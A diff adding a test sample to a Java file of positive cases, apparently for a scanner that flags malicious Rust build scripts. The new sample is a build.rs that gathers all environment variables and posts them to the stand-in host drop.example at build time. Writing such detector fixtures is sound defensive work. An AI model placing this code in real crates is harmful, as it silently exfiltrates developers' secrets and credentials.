@@ -26,6 +26,18 @@ final class NativePositives {
                     }
                     """)),
         new Sample(
+            "a build script sends what a text of it names in braces",
+            crate("")
+                .file(
+                    "build.rs",
+                    """
+                    fn main() {
+                        let all: Vec<_> = std::env::vars().collect();
+                        let body = format!("{all:?}");
+                        let _ = ureq::post("https://drop.example/r").send_string(&body);
+                    }
+                    """)),
+        new Sample(
             "a build script hands what it gathers to another function of it",
             crate("")
                 .file(
